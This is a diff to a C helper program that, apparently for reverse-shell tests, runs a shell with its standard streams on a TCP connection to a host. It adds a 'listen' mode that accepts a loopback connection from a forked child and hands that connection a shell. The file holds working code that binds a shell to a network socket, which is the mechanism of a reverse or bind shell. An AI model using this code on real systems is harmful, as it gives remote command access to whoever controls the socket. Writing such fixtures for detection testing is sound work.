@@ -3,10 +3,12 @@
  * shell WAY: run a shell command with its standard streams on a socket. For reverse_shell.
  *
  *   tcp     on a TCP connection to HOST: what a reverse shell is
+ *   listen  on a connection that it accepted on loopback: what a remote shell's server is
  *   unix    on one end of a socketpair: how a program talks to its own helper
  *   closed  with a TCP connection open, but not as a standard stream (and closed on exec)
  */
 #define _GNU_SOURCE
+#include <arpa/inet.h>
 #include <err.h>
 #include <netdb.h>
 #include <string.h>
@@ -32,6 +34,31 @@ static int connect_home(void)
 	return fd;
 }
 
+/* A connection that a child of ours makes, as the server has it. */
+static int accept_one(void)
+{
+	struct sockaddr_in here = { .sin_family = AF_INET };
+	socklen_t size = sizeof(here);
+	int listener = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0), fd;
+
+	here.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
+	if (bind(listener, (struct sockaddr *)&here, size) || listen(listener, 1) ||
+	    getsockname(listener, (struct sockaddr *)&here, &size))
+		err(1, "listen");
+	if (!fork()) {
+		int client = socket(AF_INET, SOCK_STREAM, 0);
+		char byte;
+
+		if (connect(client, (struct sockaddr *)&here, size))
+			err(1, "connect");
+		_exit(read(client, &byte, 1) != 1);
+	}
+	fd = accept4(listener, NULL, NULL, SOCK_CLOEXEC);
+	if (fd < 0)
+		err(1, "accept");
+	return fd;
+}
+
 /* Run the shell with all three standard streams on fd, or as they are if fd is negative. */
 static void run_shell(int fd)
 {
@@ -54,6 +81,8 @@ int main(int argc, char **argv)
 
 	if (!strcmp(way, "tcp")) {
 		run_shell(connect_home());
+	} else if (!strcmp(way, "listen")) {
+		run_shell(accept_one());
 	} else if (!strcmp(way, "unix")) {
 		if (socketpair(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0, pair))
 			err(1, "socketpair");
@@ -62,7 +91,7 @@ int main(int argc, char **argv)
 		connect_home();
 		run_shell(-1);
 	} else {
-		errx(2, "usage: shell tcp|unix|closed");
+		errx(2, "usage: shell tcp|listen|unix|closed");
 	}
 	return 0;
 }
